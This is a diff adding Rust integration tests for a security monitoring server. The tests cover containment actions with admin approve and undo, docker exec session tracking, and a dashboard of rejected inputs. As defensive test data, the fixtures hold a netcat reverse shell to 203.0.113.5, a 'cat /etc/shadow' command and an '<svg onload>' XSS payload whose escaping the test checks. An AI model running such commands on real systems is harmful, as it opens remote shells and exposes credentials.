@@ -32,6 +32,11 @@ struct Fixture {
 }
 
 async fn fixture() -> Fixture {
+    fixture_with(|_| {}).await
+}
+
+/// [`fixture`] with its server configuration changed by `tune` first.
+async fn fixture_with(tune: impl FnOnce(&mut crowsnest_server::ServerConfig)) -> Fixture {
     let dir = tempfile::tempdir().expect("tempdir");
     let mut config = crowsnest_server::ServerConfig {
         listen: "127.0.0.1:0".into(),
@@ -39,6 +44,7 @@ async fn fixture() -> Fixture {
         ..Default::default()
     };
     config.pipeline.commit_interval_ms = 20;
+    tune(&mut config);
     let running = crowsnest_server::start(config)
         .await
         .expect("server starts");
@@ -999,5 +1005,401 @@ async fn the_query_bar_suggests_fields_then_values_of_the_range() {
     )
     .await;
     assert_ne!(anonymous.status, StatusCode::OK);
+    f.running.shutdown().await.expect("shutdown");
+}
+
+/// The agent of node `n1`, in process: answers every command (an evidence command with an
+/// inspect of one network), and records them.
+/// Abort the returned task before shutting the server down (a closed queue answers at once).
+#[allow(clippy::type_complexity)]
+fn fake_agent(
+    state: &std::sync::Arc<crowsnest_server::AppState>,
+) -> (
+    std::sync::Arc<std::sync::Mutex<Vec<crowsnest_model::command::AgentCommand>>>,
+    tokio::task::JoinHandle<()>,
+) {
+    use crowsnest_model::command::CommandResult;
+    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
+    let (queue, log) = (state.commands.clone(), seen.clone());
+    let task = tokio::spawn(async move {
+        loop {
+            tokio::task::yield_now().await;
+            for command in queue.poll("n1", Duration::from_millis(500)).await {
+                let mut result = CommandResult::refused(&command, "n1", "");
+                result.ok = true;
+                result.error = None;
+                if command.evidence {
+                    result.inspect = Some(serde_json::json!({
+                        "Id": "web0123456789abcdef", "HostConfig": {"NetworkMode": "backend"},
+                        "NetworkSettings": {"Networks": {"backend": {"Aliases": ["api"]}}}}));
+                }
+                log.lock().expect("lock").push(command);
+                let _ = queue.complete(result);
+            }
+        }
+    });
+    (seen, task)
+}
+
+/// The containment actions of the server, once `check` holds (20 s at most).
+async fn actions_when(
+    state: &crowsnest_server::AppState,
+    check: impl Fn(&[crowsnest_respond::contain::responder::Tracked]) -> bool,
+) -> Vec<crowsnest_respond::contain::responder::Tracked> {
+    let deadline = std::time::Instant::now() + Duration::from_secs(20);
+    loop {
+        let actions = crowsnest_server::api::list_actions(state, None, 100)
+            .await
+            .expect("actions");
+        if check(&actions) {
+            return actions;
+        }
+        assert!(std::time::Instant::now() < deadline, "{actions:#?}");
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_incident_shows_its_containment_actions_with_approve_and_undo_for_admins() {
+    use crowsnest_model::command::ContainerOp;
+    use crowsnest_respond::contain::responder::{State, Tracked};
+    use crowsnest_respond::contain::ActionKind;
+    let f = fixture_with(|config| {
+        config.respond = serde_json::from_value(serde_json::json!({
+            "agent_timeout_secs": 2,
+            "guards": {"breaker_max_auto": 10},
+            "playbooks": [{"name": "shell", "rules": ["*reverse shell*"], "actions": [
+                {"action": "pause", "mode": "auto"}, {"action": "quarantine", "mode": "approve"}]}]
+        }))
+        .expect("respond config");
+    })
+    .await;
+    let state = f.running.state.clone();
+    let (seen, agent) = fake_agent(&state);
+    // A reverse shell started by `docker exec` in container `web` on node n1.
+    let event = serde_json::json!({
+        "@timestamp": chrono::Utc::now().to_rfc3339(),
+        "event": {"kind": "event", "module": "docker", "dataset": "docker.events",
+                  "category": ["process"], "type": ["start"], "action": "exec_start"},
+        "host": {"name": "n1"},
+        "container": {"id": "web0123456789abcdef", "name": "web", "image": {"name": "shop"}},
+        "process": {"command_line": "sh -c nc 203.0.113.5 4444 -e /bin/sh"},
+    });
+    let response = crowsnest_server::app(state.clone())
+        .oneshot(
+            Request::post("/api/v1/ingest/ndjson")
+                .header(header::AUTHORIZATION, format!("Bearer {}", f.admin))
+                .header(header::CONTENT_TYPE, "application/x-ndjson")
+                .body(Body::from(event.to_string()))
+                .expect("request"),
+        )
+        .await
+        .expect("ingest");
+    assert_eq!(response.status(), StatusCode::OK);
+    let find = |actions: &[Tracked], kind: ActionKind| -> Option<Tracked> {
+        actions.iter().find(|t| t.action.action == kind).cloned()
+    };
+    let actions = actions_when(&state, |a| {
+        find(a, ActionKind::Pause).is_some_and(|t| t.state == State::Executed)
+            && find(a, ActionKind::Quarantine).is_some_and(|t| t.state == State::Pending)
+    })
+    .await;
+    let pause = find(&actions, ActionKind::Pause).expect("pause");
+    let quarantine = find(&actions, ActionKind::Quarantine).expect("quarantine");
+    let incident = pause
+        .action
+        .incident_id
+        .clone()
+        .expect("planned for an incident");
+    let page = format!(
+        "/incidents/{}",
+        percent_encoding::utf8_percent_encode(&incident, percent_encoding::NON_ALPHANUMERIC)
+    );
+    let respond = format!("{page}/respond");
+
+    // A read-only token sees the actions, no buttons, and may not post.
+    let (reader_cookie, reader_csrf) = login(&f.console, &f.reader).await;
+    let shown = send(&f.console, get(&page, &reader_cookie)).await;
+    assert_eq!(shown.status, StatusCode::OK);
+    assert!(shown.body.contains("Containment actions"), "{}", shown.body);
+    assert!(shown.body.contains(&quarantine.action.id) && shown.body.contains(&pause.action.id));
+    assert!(shown.body.contains(">pending<") && shown.body.contains(">executed<"));
+    assert!(
+        !shown.body.contains(">Approve</button>") && !shown.body.contains(">Undo</button>"),
+        "{}",
+        shown.body
+    );
+    let answer = send(
+        &f.console,
+        post(
+            &respond,
+            &reader_cookie,
+            &[
+                ("csrf", &reader_csrf),
+                ("action_id", &quarantine.action.id),
+                ("decision", "approve"),
+            ],
+        ),
+    )
+    .await;
+    assert_eq!(answer.status, StatusCode::FORBIDDEN);
+
+    // An admin sees Approve on the waiting one and Undo on the executed one.
+    let (cookie, csrf) = login(&f.console, &f.admin).await;
+    let shown = send(&f.console, get(&page, &cookie)).await;
+    assert!(shown.body.contains(">Approve</button>") && shown.body.contains(">Undo</button>"));
+    // Without the CSRF token, and for an action that is not the incident's: refused.
+    let answer = send(
+        &f.console,
+        post(
+            &respond,
+            &cookie,
+            &[
+                ("action_id", &quarantine.action.id),
+                ("decision", "approve"),
+            ],
+        ),
+    )
+    .await;
+    assert_eq!(answer.status, StatusCode::FORBIDDEN);
+    let answer = send(
+        &f.console,
+        post(
+            &respond,
+            &cookie,
+            &[
+                ("csrf", &csrf),
+                ("action_id", "act-other"),
+                ("decision", "approve"),
+            ],
+        ),
+    )
+    .await;
+    assert_eq!(answer.status, StatusCode::NOT_FOUND, "{}", answer.body);
+    // Approving runs it through the agent; approving again is refused by the responder.
+    let approve = [
+        ("csrf", csrf.as_str()),
+        ("action_id", quarantine.action.id.as_str()),
+        ("decision", "approve"),
+    ];
+    let answer = send(&f.console, post(&respond, &cookie, &approve)).await;
+    assert_eq!(answer.status, StatusCode::SEE_OTHER, "{}", answer.body);
+    assert_eq!(
+        answer
+            .headers
+            .get(header::LOCATION)
+            .and_then(|v| v.to_str().ok()),
+        Some(format!("{page}#containment").as_str())
+    );
+    let actions = actions_when(&state, |a| {
+        find(a, ActionKind::Quarantine).is_some_and(|t| t.state == State::Executed)
+    })
+    .await;
+    let approved = find(&actions, ActionKind::Quarantine).expect("quarantine");
+    assert!(approved.approved_by.is_some());
+    assert_eq!(
+        seen.lock().expect("lock").last().map(|c| c.op),
+        Some(ContainerOp::Quarantine)
+    );
+    let again = send(&f.console, post(&respond, &cookie, &approve)).await;
+    assert_eq!(again.status, StatusCode::BAD_REQUEST, "{}", again.body);
+    assert!(again.body.contains("Containment action refused"));
+    // Undo of the pause: unpaused through the agent, shown as undone, no more buttons on it.
+    let answer = send(
+        &f.console,
+        post(
+            &respond,
+            &cookie,
+            &[
+                ("csrf", &csrf),
+                ("action_id", &pause.action.id),
+                ("decision", "undo"),
+            ],
+        ),
+    )
+    .await;
+    assert_eq!(answer.status, StatusCode::SEE_OTHER, "{}", answer.body);
+    actions_when(&state, |a| {
+        find(a, ActionKind::Pause).is_some_and(|t| t.state == State::Undone)
+    })
+    .await;
+    assert_eq!(
+        seen.lock().expect("lock").last().map(|c| c.op),
+        Some(ContainerOp::Unpause)
+    );
+    let shown = send(&f.console, get(&page, &cookie)).await;
+    assert!(shown.body.contains(">undone<") && !shown.body.contains(">Approve</button>"));
+    agent.abort();
+    f.running.shutdown().await.expect("shutdown");
+}
+
+#[tokio::test]
+async fn a_docker_exec_session_joins_the_container_processes_until_the_exec_ends() {
+    let f = fixture().await;
+    let base = chrono::Utc::now() - chrono::Duration::minutes(10);
+    let at = |secs: i64| {
+        (base + chrono::Duration::seconds(secs))
+            .to_rfc3339_opts(chrono::SecondsFormat::Micros, true)
+    };
+    // As the agent's Docker events input writes them.
+    let engine = |secs: i64, action: &str, exec_id: &str, command: &str| {
+        serde_json::json!({
+            "@timestamp": at(secs),
+            "event": {"kind": "event", "module": "docker", "dataset": "docker.events", "action": action,
+                      "category": ["process"], "type": [if action == "exec_die" { "end" } else { "start" }]},
+            "host": {"name": "n1"},
+            "container": {"id": "c0ffee0123456789", "name": "web", "image": {"name": "shop"}},
+            "process": {"command_line": command},
+            "docker": {"attributes": {"execID": exec_id, "exitCode": "0"}, "container": {"user": "app"}},
+        })
+    };
+    let process = |secs: i64, command: &str| {
+        serde_json::json!({
+            "@timestamp": at(secs), "event": {"dataset": "auditd", "category": ["process"]},
+            "host": {"name": "n1"}, "container": {"id": "c0ffee0123456789"},
+            "process": {"command_line": command, "pid": 40 + secs, "user": {"name": "root"}, "parent": {"name": "sh"}},
+        })
+    };
+    let client = serde_json::json!({
+        "@timestamp": at(-1), "event": {"dataset": "auditd", "category": ["process"]},
+        "host": {"name": "n1"}, "user": {"name": "bob", "id": "1000"},
+        "process": {"name": "docker", "args": ["docker", "exec", "-it", "web", "sh"], "command_line": "docker exec -it web sh"},
+    });
+    let events = [
+        client,
+        engine(0, "exec_start", "e1", "sh"),
+        process(1, "id"),
+        process(2, "cat /etc/shadow <svg onload=alert(1)>"),
+        engine(5, "exec_die", "e1", "sh"),
+        process(6, "after-exit"),
+        engine(10, "exec_start", "e2", "ls /"),
+    ];
+    let lines: String = events.iter().map(|e| format!("{e}\n")).collect();
+    let response = crowsnest_server::app(f.running.state.clone())
+        .oneshot(
+            Request::post("/api/v1/ingest/ndjson")
+                .header(header::AUTHORIZATION, format!("Bearer {}", f.admin))
+                .body(Body::from(lines))
+                .expect("request"),
+        )
+        .await
+        .expect("ingest");
+    assert_eq!(response.status(), StatusCode::OK);
+    let state = f.running.state.clone();
+    for _ in 0..500 {
+        if state.pipeline.committed_next() >= state.pipeline.acked_next() {
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(10)).await;
+    }
+    let (cookie, _) = login(&f.console, &f.reader).await;
+    let list = send(&f.console, get("/exec?range=1h", &cookie)).await;
+    assert!(
+        list.body.contains("2 of 2 execs into containers"),
+        "{}",
+        list.body
+    );
+    let session_url = crate::render::link(
+        "/exec/docker",
+        &[("container", "c0ffee0123456789"), ("at", &at(0))],
+    );
+    assert!(
+        list.body.contains(&session_url.replace('&', "&amp;")),
+        "{}",
+        list.body
+    );
+    let page = send(&f.console, get(&session_url, &cookie)).await;
+    assert_eq!(page.status, StatusCode::OK);
+    let body = &page.body;
+    assert!(body.contains("docker exec into <code>web</code>"), "{body}");
+    assert!(
+        body.contains("bob (uid 1000)") && body.contains("docker exec -it web sh"),
+        "the host's docker client is the who: {body}"
+    );
+    assert!(body.contains("2 of 2 process executions"), "{body}");
+    let (id, shadow) = (
+        body.find("<td>id</td>").expect("id ran"),
+        body.find("cat /etc/shadow").expect("cat ran"),
+    );
+    assert!(id < shadow, "oldest first");
+    assert!(!body.contains("after-exit"), "after the exec ended");
+    assert!(body.contains("the exec ended (exit code 0)"), "{body}");
+    assert!(!body.contains("<svg"), "escaped");
+    // The second exec: no end seen, followed for 30 minutes.
+    let second = crate::render::link(
+        "/exec/docker",
+        &[("container", "c0ffee0123456789"), ("at", &at(10))],
+    );
+    let page = send(&f.console, get(&second, &cookie)).await;
+    assert!(
+        page.body.contains("the exec's end was not seen")
+            && page.body.contains("<code>ls /</code>"),
+        "{}",
+        page.body
+    );
+    assert!(
+        !page.body.contains("after-exit"),
+        "before this exec: {}",
+        page.body
+    );
+    let none = send(
+        &f.console,
+        get(
+            "/exec/docker?container=nope&at=2026-01-01T00:00:00Z",
+            &cookie,
+        ),
+    )
+    .await;
+    assert!(none.body.contains("no docker exec into this container"));
+    f.running.shutdown().await.expect("shutdown");
+}
+
+#[tokio::test]
+async fn the_overview_shows_rejects_per_input_and_silent_sources() {
+    let f = fixture().await;
+    // A source that stopped an hour ago, and two lines the NDJSON decoder refuses.
+    let old = (chrono::Utc::now() - chrono::Duration::hours(1)).to_rfc3339();
+    let lines = format!(
+        "{}\nnot json\n{{\"broken\": \n",
+        serde_json::json!({"@timestamp": old, "event": {"dataset": "legacy.app"}, "message": "last words"})
+    );
+    let response = crowsnest_server::app(f.running.state.clone())
+        .oneshot(
+            Request::post("/api/v1/ingest/ndjson")
+                .header(header::AUTHORIZATION, format!("Bearer {}", f.admin))
+                .body(Body::from(lines))
+                .expect("request"),
+        )
+        .await
+        .expect("ingest");
+    assert_eq!(response.status(), StatusCode::OK);
+    let state = f.running.state.clone();
+    for _ in 0..500 {
+        if state.pipeline.committed_next() >= state.pipeline.acked_next() {
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(10)).await;
+    }
+    let rejected = state.metrics.rejected_by_source();
+    assert_eq!(
+        rejected.iter().map(|(_, n)| n).sum::<u64>(),
+        2,
+        "{rejected:?}"
+    );
+    let (cookie, _) = login(&f.console, &f.reader).await;
+    let page = send(&f.console, get("/dashboard", &cookie)).await;
+    assert_eq!(page.status, StatusCode::OK);
+    let body = &page.body;
+    let rejects = body
+        .find("Rejected lines per input")
+        .expect("rejects panel");
+    let row = format!(
+        "<td><code>{}</code></td><td class=\"num\">2</td>",
+        rejected[0].0
+    );
+    assert!(body[rejects..].contains(&row), "{body}");
+    let silent = body.find("Silent sources").expect("silent panel");
+    assert!(body[silent..].contains("legacy.app"), "{body}");
+    assert!(body[silent..].contains("60 min"), "{body}");
     f.running.shutdown().await.expect("shutdown");
 }
